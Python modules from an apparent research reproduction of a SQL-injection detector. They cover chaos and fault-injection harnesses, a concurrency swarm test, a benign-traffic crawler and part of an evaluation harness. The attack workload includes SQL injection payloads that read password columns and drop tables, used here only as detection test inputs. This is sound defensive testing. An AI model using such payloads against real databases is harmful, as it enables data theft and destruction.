        """Dispatch one fault of ``kind`` (SKEWED_DEADLINE is a request
        property, handled by the session runner, not a socket fault)."""
        if kind is NetFaultKind.TORN_FRAME:
            self.torn_frame()
        elif kind is NetFaultKind.GARBAGE:
            self.garbage()
        elif kind is NetFaultKind.OVERSIZED:
            self.oversized()
        elif kind is NetFaultKind.STALL:
            self.stall()
        elif kind is NetFaultKind.WORKER_KILL:
            self.kill_worker()


@dataclass(frozen=True)
class ChaosOutcome:
    """One workload request's fate during a chaos session."""

    index: int
    query: str
    is_attack: bool
    fault: str | None  # NetFaultKind.value injected before this request
    verdict: dict | None  # decoded verdict dict, None when errored
    error: str | None  # GatewayError reason, None when answered
    latency: float  # client-observed seconds for the inspect call

    @property
    def answered_safe(self) -> bool:
        return self.verdict is not None and self.verdict["safe"] is True


def run_chaos_session(
    client: GatewayClient,
    injector: NetFaultInjector,
    workload: Sequence[WorkloadItem],
    schedule: NetFaultSchedule,
    *,
    budget: float | None = 1.0,
) -> list[ChaosOutcome]:
    """Drive ``workload`` through ``client`` with faults interleaved.

    Before request ``i`` the scheduled fault (if any) is injected on a
    *separate* connection (or process, for WORKER_KILL); request ``i``
    itself then goes through the real client -- except SKEWED_DEADLINE,
    which mutates the request's own budget to a negative value.  Every
    request therefore gets exactly one outcome: a verdict dict or a
    :class:`~repro.service.client.GatewayError` reason, both fail-closed
    unless the verdict says ``safe`` -- which :func:`fail_open_outcomes`
    then audits against the workload's ground truth.
    """
    outcomes: list[ChaosOutcome] = []
    for index, item in enumerate(workload):
        fault = schedule.fault_at(index)
        request_budget = budget
        if fault is NetFaultKind.SKEWED_DEADLINE:
            request_budget = -abs(
                injector.rng.uniform(0.001, 5.0)
            )  # client clock ahead of server
            injector.injected.append(
                (NetFaultKind.SKEWED_DEADLINE, f"budget {request_budget:.3f}")
            )
        elif fault is not None:
            injector.inject(fault)
        inputs = [
            ("get", f"p{i}", value) for i, value in enumerate(item.values)
        ]
        t0 = time.monotonic()
        verdict: dict | None = None
        error: str | None = None
        try:
            verdict = client.inspect(
                [item.query], inputs=inputs, budget=request_budget
            )[0]
        except GatewayError as exc:
            error = exc.reason
        latency = time.monotonic() - t0
        outcomes.append(
            ChaosOutcome(
                index=index,
                query=item.query,
                is_attack=item.is_attack,
                fault=None if fault is None else fault.value,
                verdict=verdict,
                error=error,
                latency=latency,
            )
        )
    return outcomes


def fail_open_outcomes(
    outcomes: Sequence[ChaosOutcome],
) -> list[ChaosOutcome]:
    """Outcomes that violate never-fail-open: must be empty.

    A fail-open is an attack answered ``safe``, or a fault-stamped request
    answered ``safe`` when the fault was one that must shed the request
    itself (a skewed deadline).  Transport faults injected on *other*
    connections legitimately leave the session request safe -- isolation
    working as designed -- so they are not flagged here.
    """
    violations = []
    for outcome in outcomes:
        if outcome.is_attack and outcome.answered_safe:
            violations.append(outcome)
        elif (
            outcome.fault == NetFaultKind.SKEWED_DEADLINE.value
            and outcome.answered_safe
        ):
            violations.append(outcome)
    return violations
