"""Site crawler and benign-traffic driver for the false-positive study.

Paper Section V-B: *"To evaluate false positives, we developed a script to
perform a full crawl of the Wordpress application testbed, including posting
random comments and performing random searches."*

The crawler enumerates every core URL (home, every post, author pages),
every plugin route with legitimate parameter values, and generates
deterministic pseudo-random comments and searches -- deliberately salted
with SQL-looking words (``union``, ``select``, ``or 1=1`` as *prose*) to
stress the analyzers the way hostile-looking-but-benign user content does.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..phpapp.application import WebApplication
from ..phpapp.request import HttpRequest
from .exploits import benign_value, make_request
from .plugin_defs import ALL_PLUGINS, PluginDef

__all__ = ["CrawlReport", "crawl_requests", "full_crawl"]

_COMMENT_WORDS = (
    "great post thanks for sharing I think the union of ideas here is neat "
    "you could select a better theme or 1=1 of the commenters will agree "
    "don't drop the table of contents it's 100% useful -- regards o'brien"
).split()

_SEARCH_TERMS = (
    "lorem", "security", "union select", "o'brien", "100%", "tempor",
    "drop table", "1=1", "magna aliqua", "taint inference",
)


def _lcg(seed: int):
    state = seed & 0x7FFFFFFF or 1

    def next_int(bound: int) -> int:
        nonlocal state
        state = (state * 48271) % 0x7FFFFFFF
        return state % bound

    return next_int


def _random_comment(rand) -> str:
    count = 6 + rand(12)
    return " ".join(_COMMENT_WORDS[rand(len(_COMMENT_WORDS))] for __ in range(count))


def crawl_requests(
    num_posts: int,
    plugins: list[PluginDef] | None = None,
    comments: int = 10,
    searches: int = 10,
    seed: int = 2015,
) -> list[HttpRequest]:
    """The benign request stream of one full crawl."""
    rand = _lcg(seed)
    requests: list[HttpRequest] = [HttpRequest(path="/")]
    for post_id in range(1, num_posts + 1):
        requests.append(HttpRequest(path="/post", get={"id": str(post_id)}))
    for author in (1, 2):
        requests.append(HttpRequest(path="/author", get={"author": str(author)}))
    for defn in plugins if plugins is not None else ALL_PLUGINS:
        requests.append(make_request(defn, benign_value(defn)))
    for __ in range(searches):
        term = _SEARCH_TERMS[rand(len(_SEARCH_TERMS))]
        requests.append(HttpRequest(path="/search", get={"s": term}))
    for __ in range(comments):
        requests.append(
            HttpRequest(
                method="POST",
                path="/comment",
                post={
                    "post_id": str(1 + rand(num_posts)),
                    "author": ("visitor", "o'malley", "-- dave", "100% bob")[rand(4)],
                    "content": _random_comment(rand),
                },
            )
        )
    return requests


@dataclass
class CrawlReport:
    """Outcome of a protected (or plain) full crawl."""

    total_requests: int
    blocked_requests: int
    error_requests: int
    total_queries: int

    @property
    def false_positives(self) -> int:
        """Blocked benign requests (every crawl request is benign)."""
        return self.blocked_requests


def full_crawl(
    app: WebApplication,
    num_posts: int,
    plugins: list[PluginDef] | None = None,
    comments: int = 10,
    searches: int = 10,
    seed: int = 2015,
) -> CrawlReport:
    """Drive the whole benign stream through ``app`` and tally the outcome."""
    blocked = 0
    errors = 0
    queries = 0
    requests = crawl_requests(num_posts, plugins, comments, searches, seed)
    for request in requests:
        response = app.handle(request)
        queries += response.query_count
        if response.blocked:
            blocked += 1
        elif response.db_error or response.status >= 500:
            errors += 1
    return CrawlReport(
        total_requests=len(requests),
        blocked_requests=blocked,
        error_requests=errors,
        total_queries=queries,
    )
