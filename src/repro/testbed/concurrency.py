"""Concurrency chaos harness: barrier-started swarms, serial replay.

The thread-safety work of DESIGN.md section 10 claims an invariant --
*N threads hammering one engine produce exactly the verdicts a serial run
would, and never a fail-open* -- and, like the fault-injection harness in
:mod:`repro.testbed.faults`, an invariant wants an adversary.  This module
provides three:

- :class:`MarkerFaultDaemon` -- **content-keyed** fault injection: queries
  carrying a chaos marker substring deterministically raise the matching
  typed failure (crash / hang / corrupt), everything else is analysed by
  the wrapped in-process daemon.  Content keying is what makes
  *serial == concurrent* checkable at all: a positional schedule (fault on
  the i-th call) diverges under interleaving, but a fault that is a pure
  function of the query text yields the same verdict no matter which
  thread runs it when.
- :func:`run_swarm` -- a barrier-started thread swarm interleaving hot
  (repeated), cold (unique-literal), attack and fault-marker traffic from
  per-thread seeded schedules, optionally with a mutator thread reloading
  the fragment store mid-flight (epoch churn exercises every cache
  invalidation path without changing any verdict: the reload installs the
  *same* fragment set).
- :func:`serial_replay` -- the oracle: a fresh engine runs the exact same
  schedules single-threaded; :func:`diff_verdicts` compares.

:class:`PacedPTIDaemon` supports the concurrent-throughput benchmark: its
child sleeps a configurable pace per query, modeling the service time of
the paper's native analysis daemon at WordPress vocabulary scale.  Pool
speedup must come from *overlapping* those service times (parent threads
block in ``poll``/``recv`` with the GIL released), which is exactly the
deployment claim the benchmark verifies on a single-core host.
"""

from __future__ import annotations

import random
import threading
import time
from dataclasses import dataclass, field

from ..core.resilience import CorruptReply, DaemonCrash, DaemonTimeout, Deadline
from ..phpapp.context import CapturedInput, RequestContext
from ..pti.daemon import DaemonConfig, PTIDaemon, SubprocessPTIDaemon
from ..pti.fragments import FragmentStore
from .faults import POISON_MARKER

__all__ = [
    "CRASH_MARKER",
    "HANG_MARKER",
    "CORRUPT_MARKER",
    "MarkerFaultDaemon",
    "PacedPTIDaemon",
    "WorkloadItem",
    "VerdictRecord",
    "SwarmResult",
    "SWARM_FRAGMENTS",
    "build_workload",
    "run_swarm",
    "serial_replay",
    "diff_verdicts",
    "fail_open_keys",
]

#: Content-keyed fault markers: a query containing one deterministically
#: triggers that failure in :class:`MarkerFaultDaemon`, on every thread,
#: every retry, every replay.  (:data:`~repro.testbed.faults.POISON_MARKER`
#: is honored too, as a crash.)
CRASH_MARKER = "/*chaos:crash*/"
HANG_MARKER = "/*chaos:hang*/"
CORRUPT_MARKER = "/*chaos:corrupt*/"


class MarkerFaultDaemon:
    """In-process daemon whose faults are a pure function of the query.

    Speaks the daemon protocol (``analyze_query(query, deadline=...)``,
    ``store``), so it sits in the engine's daemon slot or behind a
    :class:`~repro.pti.pool.DaemonPool` via a factory.  Thread-safe: the
    wrapped :class:`~repro.pti.daemon.PTIDaemon` serializes its pipeline
    internally, and the marker check touches only the immutable query.
    """

    def __init__(self, inner: PTIDaemon) -> None:
        self.inner = inner
        self._lock = threading.Lock()
        self.calls = 0
        self.faults_fired = 0

    @property
    def store(self) -> FragmentStore:
        return self.inner.store

    def refresh_fragments(self, store: FragmentStore) -> None:
        self.inner.refresh_fragments(store)

    def resilience_snapshot(self) -> dict[str, int]:
        with self._lock:
            return {"calls": self.calls, "faults_fired": self.faults_fired}

    def _fault(self) -> None:
        with self._lock:
            self.faults_fired += 1

    def analyze_query(self, query: str, deadline: Deadline | None = None):
        with self._lock:
            self.calls += 1
        if CRASH_MARKER in query or POISON_MARKER in query:
            self._fault()
            raise DaemonCrash("chaos marker: injected child crash")
        if HANG_MARKER in query:
            self._fault()
            raise DaemonTimeout("chaos marker: injected hang")
        if CORRUPT_MARKER in query:
            self._fault()
            raise CorruptReply("chaos marker: injected corrupt reply")
        return self.inner.analyze_query(query, deadline=deadline)


# ----------------------------------------------------------------------
# Paced subprocess daemon (throughput benchmark support)
# ----------------------------------------------------------------------


def _paced_daemon_loop(conn, fragments, config, pace_seconds: float) -> None:
    """Child loop: a real PTI daemon whose every reply costs ``pace``.

    The sleep models the native daemon's per-query analysis service time
    at production vocabulary scale; the parent blocks in ``poll`` with the
    GIL released, so N workers' paces overlap -- the effect the
    concurrent-throughput benchmark measures.
    """
    daemon = PTIDaemon(FragmentStore(fragments), config)
    previous = daemon.timings.snapshot()
    while True:
        try:
            message = conn.recv()
        except EOFError:
            break
        if message is None:
            break
        if pace_seconds > 0.0:
            time.sleep(pace_seconds)
        reply = daemon.analyze_query(message)
        current = daemon.timings.snapshot()
        deltas = {k: current[k] - previous.get(k, 0.0) for k in current}
        previous = current
        conn.send((reply.safe, reply.from_cache, reply.tokens, deltas))
    conn.close()


class PacedPTIDaemon(SubprocessPTIDaemon):
    """A subprocess daemon whose child takes ``pace_seconds`` per query."""

    #: The pacing child loop speaks only the legacy pickle protocol;
    #: batch calls degrade to per-query round-trips (keeping the pacing
    #: per query, which is what the concurrency harness measures).
    supports_batch_wire = False

    def __init__(
        self,
        store: FragmentStore,
        config: DaemonConfig | None = None,
        *,
        pace_seconds: float = 0.005,
        **kwargs,
    ) -> None:
        super().__init__(store, config, **kwargs)
        self.pace_seconds = pace_seconds

    def _loop_target(self):
        return _paced_daemon_loop

    def _loop_args(self, child_conn) -> tuple:
        return (child_conn, self.fragments, self.config, self.pace_seconds)


# ----------------------------------------------------------------------
# Workload generation
# ----------------------------------------------------------------------

#: Vocabulary used by :func:`build_workload` -- large enough (>= 16) that
#: ``matcher="auto"`` resolves to the Aho-Corasick engine, exercising the
#: automaton compile/invalidate path under epoch churn.
SWARM_FRAGMENTS = [
    "SELECT * FROM records WHERE ID=",
    "SELECT name FROM users WHERE id=",
    "SELECT post_title FROM posts WHERE post_status='publish' AND ID=",
    "SELECT option_value FROM options WHERE option_name='",
    "UPDATE posts SET comment_count=comment_count+1 WHERE ID=",
    "INSERT INTO comments (post_id, content) VALUES (",
    "DELETE FROM sessions WHERE token='",
    " LIMIT 5",
    " LIMIT 1",
    " OR ",
    " = ",
    " AND approved=1",
    " ORDER BY created_at DESC",
    "', '",
    "')",
    "'",
    ")",
    " WHERE post_id=",
    "SELECT COUNT(*) FROM comments WHERE post_id=",
    "SELECT id FROM terms WHERE slug='",
]


@dataclass(frozen=True)
class WorkloadItem:
    """One scheduled request: query text, its inputs, expected class."""

    query: str
    values: tuple[str, ...] = ()
    is_attack: bool = False
    is_fault: bool = False

    def context(self) -> RequestContext:
        return RequestContext(
            inputs=[
                CapturedInput("get", f"p{i}", value)
                for i, value in enumerate(self.values)
            ]
        )


def _hot_items() -> list[WorkloadItem]:
    """The fixed hot working set (query-cache / shape-cache hits)."""
    return [
        WorkloadItem("SELECT * FROM records WHERE ID=7 LIMIT 5", ("7",)),
        WorkloadItem("SELECT name FROM users WHERE id=3 LIMIT 1", ("3",)),
        WorkloadItem(
            "SELECT option_value FROM options WHERE option_name='home'", ()
        ),
    ]


def _cold_item(n: int) -> WorkloadItem:
    """Unique-literal instance of a hot shape (shape-cache traffic)."""
    if n % 2:
        return WorkloadItem(
            f"SELECT * FROM records WHERE ID={n} LIMIT 5", (str(n),)
        )
    return WorkloadItem(
        f"SELECT COUNT(*) FROM comments WHERE post_id={n} AND approved=1",
        (str(n),),
    )


def _attack_item(n: int) -> WorkloadItem:
    """Injection attempts: PTI-visible (uncovered tokens) and NTI-visible."""
    if n % 2:
        payload = f"{n} UNION SELECT user_pass FROM users"
        return WorkloadItem(
            f"SELECT * FROM records WHERE ID={payload} LIMIT 5",
            (payload,),
            is_attack=True,
        )
    payload = f"{n}; DROP TABLE records--"
    return WorkloadItem(
        f"SELECT name FROM users WHERE id={payload} LIMIT 1",
        (payload,),
        is_attack=True,
    )


def _fault_item(n: int, marker: str) -> WorkloadItem:
    """A benign-shaped query that deterministically faults the daemon.

    With the default fail-closed policy the engine must block it
    (``failsafe``); it is *not* an attack, but it must never come back
    ``safe`` either while PTI is mandatory.
    """
    return WorkloadItem(
        f"SELECT * FROM records WHERE ID={n} {marker} LIMIT 5",
        (str(n),),
        is_fault=True,
    )


def build_workload(
    seed: int,
    threads: int,
    queries_per_thread: int,
    *,
    fault_rate: float = 0.15,
    attack_rate: float = 0.2,
) -> list[list[WorkloadItem]]:
    """Per-thread seeded schedules mixing hot/cold/attack/fault traffic.

    Deterministic in ``(seed, threads, queries_per_thread, rates)`` --
    thread ``t`` draws from ``random.Random(seed * 1_000_003 + t)`` so
    schedules are independent of interleaving and re-derivable by the
    serial replay.
    """
    schedules: list[list[WorkloadItem]] = []
    markers = (CRASH_MARKER, HANG_MARKER, CORRUPT_MARKER)
    hot = _hot_items()
    for t in range(threads):
        rng = random.Random(seed * 1_000_003 + t)
        schedule: list[WorkloadItem] = []
        for i in range(queries_per_thread):
            n = t * queries_per_thread + i
            draw = rng.random()
            if draw < fault_rate:
                schedule.append(_fault_item(n, rng.choice(markers)))
            elif draw < fault_rate + attack_rate:
                schedule.append(_attack_item(n))
            elif draw < fault_rate + attack_rate + 0.35:
                schedule.append(rng.choice(hot))
            else:
                schedule.append(_cold_item(n))
        schedules.append(schedule)
    return schedules


# ----------------------------------------------------------------------
# Swarm execution + serial oracle
# ----------------------------------------------------------------------


@dataclass(frozen=True)
class VerdictRecord:
    """The interleaving-independent projection of one verdict."""

    query: str
    safe: bool
    detected_by: frozenset[str]
    degraded: bool
    failsafe: bool

    @classmethod
    def of(cls, query: str, verdict) -> "VerdictRecord":
        return cls(
            query=query,
            safe=verdict.safe,
            detected_by=frozenset(
                t.value for t in verdict.detected_by()
            ),
            degraded=verdict.degraded,
            failsafe=verdict.failsafe,
        )


@dataclass
class SwarmResult:
    """Everything a chaos assertion needs from one swarm run."""

    #: ``(thread_index, query_index) -> VerdictRecord``
    records: dict[tuple[int, int], VerdictRecord] = field(default_factory=dict)
    #: Uncaught exceptions per thread (must be empty: ``inspect`` never
    #: raises; an entry here is a thread-safety bug).
    errors: list[tuple[int, str]] = field(default_factory=list)
    elapsed_seconds: float = 0.0
    reloads_performed: int = 0

    def queries_run(self) -> int:
        return len(self.records)


def run_swarm(
    engine,
    schedules: list[list[WorkloadItem]],
    *,
    mutator_reloads: int = 0,
    mutator_fragments: list[str] | None = None,
    join_timeout: float = 120.0,
) -> SwarmResult:
    """Run the schedules on ``engine`` from barrier-started threads.

    With ``mutator_reloads > 0`` an extra thread reloads the engine's
    fragment store that many times while traffic is in flight.  It reloads
    the *same* fragment set (default: the store's current snapshot), so
    every epoch bump exercises MRU pruning, automaton recompilation and
    shape-cache invalidation without changing a single verdict -- the
    serial oracle therefore remains exact.

    Raises :class:`RuntimeError` if any thread fails to finish within
    ``join_timeout`` (deadlock detector for CI).
    """
    result = SwarmResult()
    result_lock = threading.Lock()
    mutating = mutator_reloads > 0
    barrier = threading.Barrier(len(schedules) + (1 if mutating else 0))
    done = threading.Event()

    def worker(thread_index: int, schedule: list[WorkloadItem]) -> None:
        try:
            barrier.wait(timeout=join_timeout)
            for query_index, item in enumerate(schedule):
                verdict = engine.inspect(item.query, item.context())
                record = VerdictRecord.of(item.query, verdict)
                with result_lock:
                    result.records[(thread_index, query_index)] = record
        except Exception as exc:  # noqa: BLE001 - recorded for assertion
            with result_lock:
                result.errors.append((thread_index, repr(exc)))

    def mutator() -> None:
        store = engine.store
        fragments = (
            list(mutator_fragments)
            if mutator_fragments is not None
            else list(store.iter_all())
        )
        try:
            barrier.wait(timeout=join_timeout)
            for _ in range(mutator_reloads):
                if done.is_set():
                    break
                store.reload(fragments)
                with result_lock:
                    result.reloads_performed += 1
                time.sleep(0.0005)
        except Exception as exc:  # noqa: BLE001
            with result_lock:
                result.errors.append((-1, repr(exc)))

    workers = [
        threading.Thread(target=worker, args=(t, schedule), daemon=True)
        for t, schedule in enumerate(schedules)
    ]
    mutator_thread = (
        threading.Thread(target=mutator, daemon=True) if mutating else None
    )
    t0 = time.perf_counter()
    for thread in workers:
        thread.start()
    if mutator_thread is not None:
        mutator_thread.start()
    deadline = time.monotonic() + join_timeout
    for thread in workers:
        thread.join(timeout=max(deadline - time.monotonic(), 0.0))
        if thread.is_alive():
            done.set()
            raise RuntimeError(
                "swarm thread failed to finish (deadlock or livelock)"
            )
    done.set()  # workers are done; tell the mutator to stop churning
    if mutator_thread is not None:
        mutator_thread.join(timeout=max(deadline - time.monotonic(), 1.0))
        if mutator_thread.is_alive():
            raise RuntimeError("mutator thread failed to finish")
    result.elapsed_seconds = time.perf_counter() - t0
    return result


def serial_replay(
    make_engine,
    schedules: list[list[WorkloadItem]],
) -> dict[tuple[int, int], VerdictRecord]:
    """The oracle: the same schedules on a fresh engine, single-threaded."""
    engine = make_engine()
    records: dict[tuple[int, int], VerdictRecord] = {}
    for thread_index, schedule in enumerate(schedules):
        for query_index, item in enumerate(schedule):
            verdict = engine.inspect(item.query, item.context())
            records[(thread_index, query_index)] = VerdictRecord.of(
                item.query, verdict
            )
    return records


def diff_verdicts(
    concurrent: dict[tuple[int, int], VerdictRecord],
    serial: dict[tuple[int, int], VerdictRecord],
) -> list[str]:
    """Human-readable divergences between a swarm run and its oracle."""
    problems: list[str] = []
    for key in sorted(set(concurrent) | set(serial)):
        a, b = concurrent.get(key), serial.get(key)
        if a is None or b is None:
            problems.append(f"{key}: missing ({'concurrent' if a is None else 'serial'})")
        elif a != b:
            problems.append(f"{key}: concurrent={a} serial={b}")
    return problems


def fail_open_keys(
    records: dict[tuple[int, int], VerdictRecord],
    schedules: list[list[WorkloadItem]],
) -> list[tuple[int, int]]:
    """Keys where an attack or fault-marked query came back ``safe``.

    Must be empty under any policy that keeps PTI mandatory: attacks are
    detected, faulted queries fail closed.  (Under
    ``DEGRADE_TO_OTHER_TECHNIQUE`` a *fault* item may legitimately pass if
    NTI vouches for it; callers testing that policy should filter.)
    """
    bad: list[tuple[int, int]] = []
    for (t, i), record in records.items():
        item = schedules[t][i]
        if (item.is_attack or item.is_fault) and record.safe:
            bad.append((t, i))
    return sorted(bad)
