"""Seeded fault-injection harness for the guard runtime.

The resilience layer (DESIGN.md section 7) claims an invariant -- *no query
ever reaches the database without a verdict, under any fault schedule* --
and invariants want adversaries.  This module provides two of them, both
driven by a reproducible :class:`FaultSchedule`:

- :class:`ChaosPTIDaemon` -- a :class:`~repro.pti.daemon.SubprocessPTIDaemon`
  whose *children* misbehave for real: they crash mid-query (``os._exit``),
  hang (sleep far past every timeout), reply slowly, reply garbage, and die
  deterministically on poison queries.  This exercises the full production
  stack: ``poll``-bounded receives, kill-and-respawn, backoff, the circuit
  breaker.  A cross-respawn shared counter keeps the schedule positional
  (query *i* gets fault *i* no matter how many children died before it).

- :class:`FlakyDaemon` -- an in-process injector raising the same typed
  failures the resilient wrapper can surface, without any real processes.
  This is what the hypothesis property suite drives: thousands of random
  fault schedules per minute, asserting the engine's never-fail-open
  resolution, which would be hopelessly slow with real children.

Both speak the daemon protocol (``analyze_query(query, deadline=...)``), so
either can sit in the engine's daemon slot.

Poison queries are content-keyed (the :data:`POISON_MARKER` substring or an
explicit set), so they re-trigger after every respawn -- the deterministic
crash the single-respawn-retry seed code could not survive.
"""

from __future__ import annotations

import enum
import multiprocessing
import os
import random
import time
from dataclasses import dataclass, field

from ..core.resilience import (
    CorruptReply,
    DaemonCrash,
    DaemonTimeout,
    Deadline,
)
from ..pti.daemon import DaemonConfig, PTIDaemon, SubprocessPTIDaemon
from ..pti.fragments import FragmentStore

__all__ = [
    "FaultKind",
    "FaultSchedule",
    "FakeClock",
    "ChaosPTIDaemon",
    "FlakyDaemon",
    "POISON_MARKER",
]

#: Queries containing this substring deterministically kill the analysis
#: child (the "poison query" fault class): every respawn dies again.
POISON_MARKER = "/*chaos:poison*/"


class FaultKind(enum.Enum):
    """The injectable fault classes (tentpole fault taxonomy)."""

    CRASH = "crash"  # child dies mid-query (SIGKILL-style, no cleanup)
    HANG = "hang"  # child goes silent far past every timeout
    SLOW = "slow"  # child replies, but late
    CORRUPT = "corrupt"  # child replies garbage (shape-invalid message)


@dataclass(frozen=True)
class FaultSchedule:
    """A reproducible position -> fault mapping.

    Positions are *global analysis indices*: the i-th query the (possibly
    respawned-many-times) daemon is asked to analyse.  Retried queries
    consume fresh positions, which is exactly transient-fault semantics: a
    crash at position k makes the retry run at position k+1, where the
    schedule usually holds no fault.
    """

    faults: dict[int, FaultKind] = field(default_factory=dict)
    seed: int | None = None

    @classmethod
    def none(cls) -> "FaultSchedule":
        return cls({})

    @classmethod
    def fixed(cls, mapping: dict[int, FaultKind]) -> "FaultSchedule":
        return cls(dict(mapping))

    @classmethod
    def seeded(
        cls,
        seed: int,
        length: int,
        rate: float = 0.25,
        kinds: tuple[FaultKind, ...] = (
            FaultKind.CRASH,
            FaultKind.SLOW,
            FaultKind.CORRUPT,
        ),
    ) -> "FaultSchedule":
        """Draw a random schedule reproducibly from ``seed``.

        ``kinds`` defaults to the transient faults; HANG is opt-in because
        each hang costs a real receive-timeout of wall-clock time in the
        subprocess harness.
        """
        rng = random.Random(seed)
        faults = {
            i: rng.choice(kinds) for i in range(length) if rng.random() < rate
        }
        return cls(faults, seed=seed)

    def fault_at(self, index: int) -> FaultKind | None:
        return self.faults.get(index)

    def positions(self, kind: FaultKind | None = None) -> list[int]:
        return sorted(
            i for i, k in self.faults.items() if kind is None or k is kind
        )


class FakeClock:
    """An injectable monotonic clock: hangs become arithmetic, not sleeps.

    Plugged into :class:`~repro.core.resilience.Deadline` /
    :class:`~repro.core.resilience.CircuitBreaker` by the in-process fault
    tests so timeout behavior is exercised deterministically and instantly.
    """

    def __init__(self, now: float = 0.0) -> None:
        self.now = now

    def __call__(self) -> float:
        return self.now

    def advance(self, seconds: float) -> None:
        self.now += seconds


# ----------------------------------------------------------------------
# Real-subprocess chaos
# ----------------------------------------------------------------------


def _chaos_daemon_loop(
    conn,
    fragments: list[str],
    config: DaemonConfig,
    schedule: FaultSchedule,
    counter,
    hang_seconds: float,
    slow_seconds: float,
) -> None:
    """Child entry point: a PTI daemon with scheduled misbehavior."""
    daemon = PTIDaemon(FragmentStore(fragments), config)
    previous = daemon.timings.snapshot()
    while True:
        try:
            message = conn.recv()
        except EOFError:
            break
        if message is None:
            break
        if POISON_MARKER in message:
            # Deterministic: this query kills every child ever spawned.
            os._exit(139)
        with counter.get_lock():
            index = counter.value
            counter.value += 1
        fault = schedule.fault_at(index)
        if fault is FaultKind.CRASH:
            os._exit(137)
        if fault is FaultKind.HANG:
            # Go silent for far longer than any sane receive timeout; the
            # parent is expected to declare us hung and kill us.
            time.sleep(hang_seconds)
            os._exit(134)
        if fault is FaultKind.SLOW:
            time.sleep(slow_seconds)
        if fault is FaultKind.CORRUPT:
            conn.send(("\x00garbage", -1))
            continue
        reply = daemon.analyze_query(message)
        current = daemon.timings.snapshot()
        deltas = {k: current[k] - previous.get(k, 0.0) for k in current}
        previous = current
        conn.send((reply.safe, reply.from_cache, reply.tokens, deltas))
    conn.close()


class ChaosPTIDaemon(SubprocessPTIDaemon):
    """A subprocess PTI daemon whose children misbehave on schedule.

    Everything parent-side is the production
    :class:`~repro.pti.daemon.SubprocessPTIDaemon` -- the chaos lives
    entirely in the child loop, so the recovery machinery under test is
    byte-for-byte the deployed one.
    """

    #: The chaos child loop speaks only the legacy pickle protocol;
    #: batch calls degrade to per-query round-trips (each of which the
    #: fault schedule can still hit).
    supports_batch_wire = False

    def __init__(
        self,
        store: FragmentStore,
        config: DaemonConfig | None = None,
        *,
        schedule: FaultSchedule,
        hang_seconds: float = 30.0,
        slow_seconds: float = 0.02,
        **kwargs,
    ) -> None:
        super().__init__(store, config, **kwargs)
        self.schedule = schedule
        self.hang_seconds = hang_seconds
        self.slow_seconds = slow_seconds
        # Shared across respawns so the schedule stays positional.
        self._counter = multiprocessing.Value("q", 0)

    def _loop_target(self):
        return _chaos_daemon_loop

    def _loop_args(self, child_conn) -> tuple:
        return (
            child_conn,
            self.fragments,
            self.config,
            self.schedule,
            self._counter,
            self.hang_seconds,
            self.slow_seconds,
        )

    @property
    def queries_seen(self) -> int:
        """Global analysis positions consumed so far (includes retries)."""
        return int(self._counter.value)

    def clear_faults(self) -> None:
        """Stop injecting (fault recovery scenario: the outage ends)."""
        self.schedule = FaultSchedule.none()
        self.close()  # running children still hold the old schedule


# ----------------------------------------------------------------------
# In-process fault injection (property-test speed)
# ----------------------------------------------------------------------


class FlakyDaemon:
    """In-process injector speaking the daemon protocol.

    Raises the typed failures the resilient subprocess wrapper surfaces
    (:class:`DaemonCrash`, :class:`DaemonTimeout`, :class:`CorruptReply`)
    -- or, with ``raw_errors=True``, the *raw* exceptions a non-resilient
    daemon would leak (``EOFError``/``TimeoutError``/``ValueError``), to
    exercise the engine's catch-all fail-closed path.

    HANG faults consume the query's remaining deadline on the injected
    :class:`FakeClock` (when provided) before raising, mimicking a receive
    that waited its full timeout.
    """

    def __init__(
        self,
        inner: PTIDaemon,
        schedule: FaultSchedule,
        *,
        clock: FakeClock | None = None,
        hang_seconds: float = 30.0,
        raw_errors: bool = False,
        poison_queries: frozenset[str] = frozenset(),
    ) -> None:
        self.inner = inner
        self.schedule = schedule
        self.clock = clock
        self.hang_seconds = hang_seconds
        self.raw_errors = raw_errors
        self.poison_queries = poison_queries
        self.calls = 0
        self.faults_fired = 0

    @property
    def store(self) -> FragmentStore:
        return self.inner.store

    def analyze_query(self, query: str, deadline: Deadline | None = None):
        index = self.calls
        self.calls += 1
        if POISON_MARKER in query or query in self.poison_queries:
            self.faults_fired += 1
            if self.raw_errors:
                raise EOFError("poison query killed the daemon")
            raise DaemonCrash("poison query killed the daemon")
        fault = self.schedule.fault_at(index)
        if fault is FaultKind.CRASH:
            self.faults_fired += 1
            if self.raw_errors:
                raise EOFError("injected child crash")
            raise DaemonCrash("injected child crash")
        if fault is FaultKind.HANG:
            self.faults_fired += 1
            if self.clock is not None:
                remaining = deadline.remaining() if deadline is not None else None
                self.clock.advance(
                    self.hang_seconds if remaining is None else remaining
                )
            if self.raw_errors:
                raise TimeoutError("injected hang")
            raise DaemonTimeout("injected hang")
        if fault is FaultKind.CORRUPT:
            self.faults_fired += 1
            if self.raw_errors:
                raise ValueError("injected corrupt reply")
            raise CorruptReply("injected corrupt reply")
        # SLOW is a no-op in-process (latency is the subprocess harness's
        # concern); fall through to a genuine analysis.
        return self.inner.analyze_query(query, deadline=deadline)
