"""Security-evaluation harness: computes the paper's Tables II and IV.

For every plugin the harness establishes:

- the original exploit *works* against the unprotected testbed;
- per-technique detection of the original exploit (Table II baseline);
- the NTI-evasive mutant still works and whether NTI / Joza detect it;
- whether Taintless can adapt the exploit (and, when it can, that the
  adapted exploit works and whether PTI / Joza detect it);
- Joza's verdict across everything (the last column of Table IV).

The harness builds one protected application per configuration and streams
all exploits through it, resetting nothing in between -- deliberately, since
that is how a deployed Joza would see the traffic (and it exercises the
caches under attack load).
"""

from __future__ import annotations

from dataclasses import dataclass

from ..core.engine import JozaEngine
from ..core.policy import JozaConfig
from ..phpapp.application import WebApplication
from ..pti.fragments import FragmentStore
from .exploits import Exploit, all_exploits, craft_exploit, run_exploit
from .other_apps import ScenarioReport, all_scenarios
from .plugin_defs import ALL_PLUGINS, AttackType, PluginDef, plugin_by_name
from .plugins import build_testbed

__all__ = [
    "PluginReport",
    "CorpusEvaluation",
    "evaluate_corpus",
    "evaluate_sqlgen_variants",
    "SQLGEN_TARGETS",
]

#: The four plugins (one per attack class of Table I) the paper points
#: SQLMap at, generating ~40 valid payloads each (Table II, second row).
SQLGEN_TARGETS = ("commevents", "allowphp", "gdstarrating", "advertiser")


@dataclass
class PluginReport:
    """One row of Table IV."""

    plugin: PluginDef
    original_works: bool
    nti_original: bool       # NTI detected the original exploit
    pti_original: bool       # PTI detected the original exploit
